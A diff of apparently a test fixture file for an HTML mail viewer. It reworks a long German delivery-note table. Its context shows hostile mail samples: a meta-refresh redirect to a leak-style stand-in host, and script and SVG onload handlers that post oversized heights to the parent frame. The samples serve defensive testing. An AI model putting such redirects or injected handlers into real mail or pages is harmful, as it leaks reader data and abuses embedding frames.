@@ -44,9 +44,10 @@ HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=http://leak.e
 
 ROWS = [f"Posten {n}" for n in range(1, 61)]
 # A mail longer than any window, its rows wide enough to break on a phone, and the last one folded away.
-LONG = f"""<h2>Lieferschein</h2><table style="width:100%" border="1">{"".join(
-    f"<tr><td>{row}</td><td>Bernstein, geschliffen, in einzelnen Beuteln, wie am Telefon besprochen</td></tr>"
-    for row in ROWS[:-1])}</table><details><summary>Rest</summary>{ROWS[-1]}</details>"""
+WARE = "Bernstein, geschliffen, in einzelnen Beuteln, mit Zertifikat und einer Rechnung für jeden der drei Standorte"
+LONG = f"""<h2>Lieferschein</h2><table style="width:100%" border="1">{
+    "".join(f"<tr><td>{row}</td><td>{WARE}</td></tr>" for row in ROWS[:-1])
+}</table><details><summary>Rest</summary>{ROWS[-1]}</details>"""
 # What mail may try with a frame that grows and a page for paper.
 GREEDY = """<div style="height:150vh!important">Kopf</div><div style="height:10px !important">eng<br>eng<br>eng</div>
 <script>parent.postMessage(150000, "*")</script><svg onload="parent.postMessage(150000, '*')"></svg>
